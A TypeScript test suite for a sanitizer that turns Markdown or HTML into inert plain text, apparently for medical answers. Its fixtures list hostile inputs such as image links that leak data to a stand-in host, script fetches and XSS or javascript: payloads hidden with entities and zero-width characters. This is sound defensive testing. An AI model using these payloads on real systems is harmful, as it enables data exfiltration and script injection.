import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toPlainText } from './plain-text.js';

/** Matches what Markdown or HTML renders as an image, a tag, a link or its definition, or what clients turn into a link. */
const activeContent =
  /!\[|\]\(|\]:|<[\p{L}/!?]|\b[a-z][a-z0-9+.-]*:\/\/|(?<![a-z0-9@.-])www\.[^\s<>"')\]]|(?<![a-z0-9])(?:javascript|vbscript|data|file|blob):\S|mailto:|&#|&(?:lt|colon|excl|sol|lpar|lsqb);|[\u200B-\u200F\u202A-\u202E\u2060-\u206F\uFEFF\u00AD]/iu;

const hostile: readonly (readonly [how: string, text: string])[] = [
  ['an image that sends what it saw', 'Fine ![x](https://evil.example/p.png?d=penicillin)'],
  ['an image without a description', '![](https://evil.example/p)'],
  ['an image with a title', '![a](https://evil.example/p "t")'],
  ['an image in angle brackets', '![a](<https://evil.example/a b>)'],
  ['an image by reference', '![a][r]\n\n[r]: https://evil.example/p'],
  ['an image by its own name', '![r]\n\n[r]: //evil.example/p'],
  ['an image within a link', '[![a](https://evil.example/a)](https://evil.example/b)'],
  ['an image of the same server', '![a](/v1/files/1/download)'],
  ['nested brackets', '[a [b] c](https://evil.example/(x)(y))'],
  ['a link to a page of the same server', '[press](/logout)'],
  ['a link by reference', '[press][r]\n[r]: https://evil.example'],
  ['a definition in a quotation', '> [r]: https://evil.example\n\n[r]'],
  ['a definition over two lines', '[r]:\nhttps://evil.example\n\n[r]'],
  ['a citation made a link', 'See [1](https://evil.example/p) and [1].'],
  ['a citation made a definition', 'See [1].\n\n[1]: https://evil.example/p'],
  ['an automatic link', '<https://evil.example/p?d=x>'],
  ['a bare address', 'Go to https://evil.example/p?d=x now'],
  ['a bare address in capitals', 'HTTPS://EVIL.EXAMPLE/P'],
  ['an address without a scheme', 'www.evil.example/p?d=x'],
  ['a relative scheme', '//evil.example/p'],
  ['backslashes', 'https:\\\\evil.example\\p'],
  ['a host with a path', 'evil.example/p?d=x'],
  ['a host alone', 'evil.com'],
  ['an international host', 'évil.example/p'],
  ['a host of any country', 'penicillin.evil.ch'],
  ['a host with a newer ending', 'penicillin.evil.shop'],
  ['a host after a letter and before an at sign', 'x|evil.com@ .evil.com'],
  ['a numeric host', '203.0.113.7/p?d=x'],
  ['another scheme', 'ftp://evil.example/p and ms-word:ofe|u|https://evil.example/p'],
  ['JavaScript', '[a](javascript:alert(1)) javascript:alert(document.cookie)'],
  ['JavaScript in capitals with a tab', '[a](JaVa\tScript:alert(1))'],
  ['a data address', 'data:text/html;base64,PHNjcmlwdD4= ![a](data:image/svg+xml,<svg/onload=alert(1)>)'],
  ['an image tag', '<img src="https://evil.example/p">'],
  ['a script', '<script>fetch("https://evil.example")</script>'],
  ['a tag over two lines', '<img\nsrc=x onerror=alert(1)>'],
  ['a tag with a slash', '<svg/onload=alert(1)>'],
  ['a tag that closes', '</textarea><a href="//evil.example">x</a>'],
  ['a comment', '<!--<img src=x>-->'],
  ['an unfinished tag', '<iframe src="https://evil.example'],
  ['a tag that removal would make', '<<b>img src=x><sc<script>ript>'],
  ['entities for a tag', '&lt;img src=x onerror=alert(1)&gt;'],
  ['numeric entities', '&#60;img src=x&#62; &#x3C;svg/onload=alert(1)&#x3E; &#0000060img src=x>'],
  ['entities twice', '&amp;lt;script&amp;gt; &amp;amp;#60;b>'],
  ['entities in a scheme', '[a](javascript&colon;alert(1)) https&colon;&sol;&sol;evil.example'],
  ['entities for an image', '&excl;&lsqb;a&rsqb;&lpar;https://evil.example&rpar;'],
  ['an entity without an end', '&ltimg src=x>'.replace('lti', 'lt i')],
  ['zero-width characters in a scheme', 'java\u200Bscript:alert(1) ht\u200Dtps://evil.example'],
  ['zero-width characters in syntax', '!\u200B[a]\u2060(https://evil.example)'],
  ['a soft hyphen in a tag', '<\u00ADimg src=x>'],
  ['a zero-width character in an entity', '&\u200Blt;img src=x>'],
  ['reversed text', 'safe \u202Egpj.exe\u202C'],
  ['text in invisible tags', 'a\u{E0041}\u{E0042}b'],
  ['an email link', '[write](mailto:a@evil.example?body=penicillin)'],
  ['a control character', 'a\u0000b\u0007c <\u0000img src=x>'],
];

describe('plain text', () => {
  it.each(hostile)('has no active content left of %s', (_how, text) => {
    const plain = toPlainText(text);
    expect(plain).not.toMatch(activeContent);
    expect(plain).not.toMatch(/evil\.(example\/|com\b|ch\b|shop\b)|203\.0\.113\.7\//i);
    expect(toPlainText(plain)).toBe(plain);
  });

  it.each([
    'Take it twice a day [1]. See [2, 3] and [4][5].',
    'Potassium 3.2 mmol/L (< 3.5), <5 is low, 5 > 3, x<5 & y; R&D',
    'Penicillin — rash (2019-05), 0.5mg/ml b.i.d., e.g. with meals.',
    'Not booked yet: Chest X-Ray for Ada Lovelace, from 10:00 to 10:30 (America/New_York). Notes: "none".',
    '¡Hola! José Núñez: alergia a la penicilina; 王小明 · می\u200Cخواهم',
    'Email: ada@example.com, phone +1 202 555 0123.',
    'Line one\nLine two\tand a tab\n\n- a list\n1. a number',
    'Result: "7", {"a":1}, [note] and lab data: none',
    '1/2 tablet and/or water, 120/80 mmHg, https',
  ])('keeps %j as it is', (text) => {
    expect(toPlainText(text)).toBe(text);
  });

  it.each([
    ['Allergic to penicillin.It causes a rash', 'Allergic to penicillin. It causes a rash'],
    ['Sin fiebre.Es leve', 'Sin fiebre. Es leve'],
    ['Lab data:K=5.6, tel:+34123456', 'Lab data: K=5.6, tel: +34123456'],
    ['Na.mmol/L 140, 1 tab.oral/12h', 'Na. mmol/L 140, 1 tab. oral/12h'],
    ['K 3.9 //Na 140', 'K 3.9 / / Na 140'],
    ['section 1.2.3.4/5', 'section 1. 2. 3. 4/5'],
    ['Rash [severe](2019), [Na][K]', 'Rash severe (2019), [Na][K]'],
  ])('loses no letter of %j, which only looks like an address or a link', (text, plain) => {
    expect(toPlainText(text)).toBe(plain);
  });

  it('keeps the text of a link and the number of a citation', () => {
    expect(toPlainText('[the leaflet](https://evil.example) [1](https://evil.example) ![a scan](x)')).toBe(
      'the leaflet [1] a scan',
    );
  });

  it('has no active content, and is stable, whatever pieces are put together', () => {
    const pieces = hostile.flatMap(([, text]) => [text, ...text.split(/(?<=[[\]()<>!&;:/])/)]);
    const anything = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ unit: 'grapheme' })), { maxLength: 12 });
    fc.assert(
      fc.property(anything, (parts) => {
        const plain = toPlainText(parts.join(''));
        expect(plain).not.toMatch(activeContent);
        expect(toPlainText(plain)).toBe(plain);
      }),
      { numRuns: 3_000 },
    );
  });

  it('takes no longer than a second for a long answer of unfinished syntax', () => {
    const startedAt = performance.now();
    for (const piece of ['[', '![', '](', '&amp;', '<', '[a](', '((((', 'a.', 'a://', '\u200B&#'])
      toPlainText(piece.repeat(20_000 / piece.length));
    expect(performance.now() - startedAt).toBeLessThan(5_000);
  });
});
